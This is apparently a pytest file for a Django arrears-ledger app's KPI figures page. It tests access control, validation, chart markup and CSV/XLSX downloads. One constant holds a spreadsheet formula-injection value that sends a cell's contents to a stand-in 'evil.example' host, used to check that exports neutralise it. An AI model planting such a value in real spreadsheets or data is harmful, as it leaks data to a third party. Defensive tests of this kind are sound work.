"""The figures page (issue #16): `arrears kpis` on the desk, as the signed-in person. The
world is the hand-worked ledger of tests/apps/reports/test_kpis_command.py (acme: cora and
olaf collect, maria manages; rival, the second company, with otto): the page shows the
figures the command prints, in its words, with the chart inline; its downloads are the
command's files."""

from __future__ import annotations

import csv
import html
import io
import re
from datetime import date

import pytest
from django.contrib.auth import get_user_model
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from arrears.apps.accounts.services import user_ensure
from arrears.apps.ledger.models import Allocation, Debtor, Payment
from arrears.apps.reports.kpis import kpi_report
from arrears.apps.reports.presentation import tables
from arrears.domain.access import PersonRole
from arrears.domain.text import neutralise
from tests import factories
from tests.apps.reports.test_kpis_command import AS_OF, hand_worked, kpis, row
from tests.web.conftest import signed_in

pytestmark = pytest.mark.django_db

URL = "/desk/acme/figures/"
ASKED = {"months": "2", "as_of": AS_OF.isoformat()}
PHISH = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'  # a username may hold it


def person(username: str):
    return get_user_model().objects.get(username=username)


def paid(company, owner, code: str, amount: int, on: date = date(2026, 3, 20)) -> None:
    """A debtor of `owner`'s with an invoice of `amount` paid in full on `on`."""
    d = factories.debtor(company, code=code, owner=owner)
    item = factories.item(d, due=on, issue_date=date(2026, 3, 1), amount=amount, open_=0)
    pay = Payment.objects.create(
        company=company,
        debtor=d,
        reference=f"P-{code}",
        received_on=on,
        currency="EUR",
        amount_minor=amount,
    )
    Allocation.objects.create(payment=pay, item=item, amount_minor=amount)


@pytest.fixture
def acme(db):
    """The hand-worked ledger of test_kpis_command (rival, the second company; olaf, the
    second collector)."""
    return hand_worked()


@pytest.fixture
def both(acme):
    """olaf is paid 50.00 on a debtor of his in March: both collectors have a line."""
    paid(acme, person("olaf"), "TILE", 50_00)
    return acme


def page(username: str, **params: str) -> str:
    response = signed_in(person(username)).get(URL, {**ASKED, **params})
    assert response.status_code == 200, response.content[:500]
    return response.content.decode()


def table(text: str, name: str) -> list[list[str]]:
    """The rows of the page's table `name` (its header first), each cell's text."""
    found = re.search(rf'<section[^>]*id="table-{name}".*?</section>', text, re.S)
    assert found, f"no table {name}"
    return [
        [html.unescape(re.sub(r"<[^>]+>", "", c)).strip() for c in cells]
        for tr in re.findall(r"<tr>(.*?)</tr>", found.group(), re.S)
        if (cells := re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", tr, re.S))
    ]


def test_an_anonymous_visitor_is_sent_to_sign_in(acme):
    for url in (URL, f"{URL}months.csv", f"{URL}figures.xlsx"):
        response = Client().get(url)
        assert response.status_code == 302
        assert response["Location"] == f"/accounts/login/?next={url}"


def test_another_company_s_figures_are_not_found(acme):
    otto = signed_in(person("otto"))  # rival's collector
    for url in (URL, f"{URL}months.csv", f"{URL}figures.xlsx"):
        assert otto.get(url, ASKED).status_code == 404
    maria = signed_in(person("maria"))
    assert maria.get("/desk/rival/figures/").status_code == 404
    assert maria.get("/desk/nowhere/figures/").status_code == 404
    assert maria.get("/desk/rival/figures/", {"months": "0"}).status_code == 404


def test_every_member_reads_the_company_figures_from_the_desk_s_header(acme):
    sam = user_ensure(username="sam", role=PersonRole.SALES, company=acme)
    worklist = signed_in(sam).get("/desk/acme/worklist/").content.decode()
    assert f'href="{URL}"' in worklist
    text = signed_in(sam).get(URL, ASKED).content.decode()
    assert "Figures of acme" in text and table(text, "months")[-1][0] == "2026-03"
    assert f'href="{URL}" aria-current="page"' in text


def test_a_collector_sees_only_their_own_collector_line(both):
    for username, cash in (("cora", "400.00"), ("olaf", "50.00")):
        text = page(username)
        lines = table(text, "collectors")[1:]
        assert [(r[0], r[-1]) for r in lines] == [(username, cash)]
        assert "your own figures: a credit manager sees everyone" in text


def test_a_credit_manager_sees_every_collector_s_line(both):
    text = page("maria")
    lines = table(text, "collectors")[1:]
    assert sorted((r[0], r[-1]) for r in lines) == [("cora", "400.00"), ("olaf", "50.00")]
    assert "your own figures" not in text


def test_march_on_the_page_is_the_line_arrears_kpis_prints(acme):
    # Worked by hand in test_kpis_command: DSO 170.5, countback 47.8, BPDSO 77.5, ADD 93.0,
    # CEI 40.0 % on receivables of 1,100.00 and net credit sales of 200.00.
    printed = kpis()
    months = table(page("maria"), "months")
    march = next(r for r in months if r[0] == "2026-03")
    assert march == row(printed, "2026-03")
    assert march[4] == "170.5" and march[8] == "40.0"


def test_the_page_shows_every_table_of_arrears_kpis_in_its_words(acme):
    text = page("maria")
    report = kpi_report(actor=person("maria"), company=acme, as_of=AS_OF, months=2)
    for t in tables(report):
        assert html.escape(t.title) in text
        if t.rows:
            assert table(text, t.name)[0] == t.header
        else:
            assert re.search(
                rf'id="table-{t.name}".*?<p class="empty muted">nothing yet</p>', text, re.S
            )
    assert "Figures of acme (Acme" in text and "counts as a credit on 2026-03-31" in text


def test_the_chart_is_inline_svg_with_a_title_and_a_description(acme):
    text = page("maria")
    svg = re.search(r"<svg\b[^>]*>", text)
    assert svg and 'role="img"' in svg.group() and "kpi-chart-title" in svg.group()
    after = text[svg.end() :]
    assert after.startswith(
        '<title id="kpi-chart-title">acme: collection figures as of 2026-03-31</title><desc'
    )
    assert "<?xml" not in text and "<!DOCTYPE svg" not in text


@pytest.mark.parametrize("months", ["0", "25", "abc", "٣", "-1"])
def test_a_bad_number_of_months_is_said_beside_the_field(acme, months):
    response = signed_in(person("maria")).get(URL, {"months": months})
    text = response.content.decode()
    assert response.status_code == 422
    said = re.search(r'<span class="error" id="error-months">(.*?)</span>', text)
    assert said and said.group(1) == "a number of months from 1 to 24"
    assert 'aria-describedby="error-months"' in text
    assert 'id="chart"' not in text and 'id="table-months"' not in text


@pytest.mark.parametrize(
    ("as_of", "words"),
    [
        ("2026-02-30", "&#x27;2026-02-30&#x27; is not a date (use YYYY-MM-DD)"),
        ("20260331", "&#x27;20260331&#x27; is not a date (use YYYY-MM-DD)"),
        ("1899-12-31", "1899-12-31 is before 1900-01-01: no ledger goes back that far"),
    ],
)
def test_a_bad_as_of_date_is_said_beside_the_field(acme, as_of, words):
    response = signed_in(person("maria")).get(URL, {"months": "3", "as_of": as_of})
    text = response.content.decode()
    assert response.status_code == 422
    said = re.search(r'<span class="error" id="error-as_of">(.*?)</span>', text)
    assert said and said.group(1).startswith(words)
    assert 'id="error-months"' not in text and 'value="3"' in text


def test_a_bad_value_on_a_download_is_said_on_the_page_not_downloaded(acme):
    response = signed_in(person("maria")).get(f"{URL}months.csv", {"months": "99"})
    assert response.status_code == 422 and response["Content-Type"].startswith("text/html")
    assert b'id="error-months"' in response.content


def test_htmx_gets_only_the_figures_back(acme):
    response = signed_in(person("maria")).get(URL, ASKED, HTTP_HX_REQUEST="true")
    text = response.content.decode()
    assert text.lstrip().startswith('<div id="figures">') and "<html" not in text
    assert table(text, "months")[-1][0] == "2026-03" and "<svg" in text
    bad = signed_in(person("maria")).get(URL, {"months": "0"}, HTTP_HX_REQUEST="true")
    assert bad.status_code == 422 and b'id="error-months"' in bad.content
    assert b"<html" not in bad.content


def test_a_table_downloads_as_the_csv_arrears_kpis_writes(acme, tmp_path):
    kpis("--csv", str(tmp_path))
    client = signed_in(person("maria"))
    for name in ("months", "ageing", "collectors", "curve"):
        response = client.get(f"{URL}{name}.csv", ASKED)
        assert response.status_code == 200
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"] == (
            f'attachment; filename="acme-figures-2026-03-31-{name}.csv"'
        )
        assert response.content == (tmp_path / f"{name}.csv").read_bytes()


def test_an_unknown_table_is_not_found(acme):
    assert signed_in(person("maria")).get(f"{URL}nope.csv", ASKED).status_code == 404


def test_the_workbook_downloads_with_every_table_as_arrears_kpis_writes_it(acme, tmp_path):
    kpis("--xlsx", str(tmp_path / "kpis.xlsx"))
    response = signed_in(person("maria")).get(f"{URL}figures.xlsx", ASKED)
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="acme-figures-2026-03-31.xlsx"'
    got = load_workbook(io.BytesIO(response.content))
    want = load_workbook(tmp_path / "kpis.xlsx")
    assert got.sheetnames == want.sheetnames
    for name in want.sheetnames:
        assert list(got[name].values) == list(want[name].values)


def test_the_downloads_neutralise_text_a_spreadsheet_would_run(acme):
    phish = factories.collector(PHISH, acme)
    paid(acme, phish, "TILE", 50_00)
    client = signed_in(person("maria"))
    text = client.get(URL, ASKED).content.decode()
    assert html.escape(PHISH) in text  # the page shows the name as text
    rows = list(csv.reader(io.StringIO(client.get(f"{URL}collectors.csv", ASKED).text)))
    assert [neutralise(PHISH), "EUR"] in [r[:2] for r in rows]
    assert PHISH not in {c for r in rows for c in r}
    ws = load_workbook(io.BytesIO(client.get(f"{URL}figures.xlsx", ASKED).content))["collectors"]
    names = {ws.cell(row=r, column=1).value for r in range(2, ws.max_row + 1)}
    assert neutralise(PHISH) in names
    assert all(c.data_type != "f" for r in ws.iter_rows() for c in r)


def _queries(client: Client) -> int:
    with CaptureQueriesContext(connection) as seen:
        assert client.get(URL, ASKED).status_code == 200
    return len(seen)


def test_the_figures_page_s_query_count_does_not_grow_with_the_ledger(acme):
    client = signed_in(person("maria"))
    before = _queries(client)
    brick = Debtor.objects.get(company=acme, code="BRICK")
    for n in range(20):
        factories.item(brick, due=date(2026, 3, 1), issue_date=date(2026, 2, n + 1), amount=10_00)
    for n in range(5):
        paid(acme, person(("cora", "olaf")[n % 2]), f"MORE{n}", 10_00 * (n + 1))
    assert _queries(client) == before


def test_without_controls_the_page_shows_six_months_to_today(acme, monkeypatch):
    monkeypatch.setattr(timezone, "localdate", lambda *a: AS_OF)
    client = signed_in(person("maria"))
    text = client.get(URL).content.decode()
    assert 'value="6"' in text and f'value="{AS_OF}"' in text
    asked = client.get(URL, {"months": "6", "as_of": AS_OF.isoformat()}).content.decode()
    assert table(text, "months") == table(asked, "months")
    assert table(text, "months")[-1][0] == "2026-03"


def test_the_calendar_s_last_day_still_reads(acme):
    response = signed_in(person("maria")).get(URL, {"months": "24", "as_of": "9999-12-31"})
    assert response.status_code == 200
    assert "Figures of acme (Acme GmbH) as of 9999-12-31" in response.content.decode()
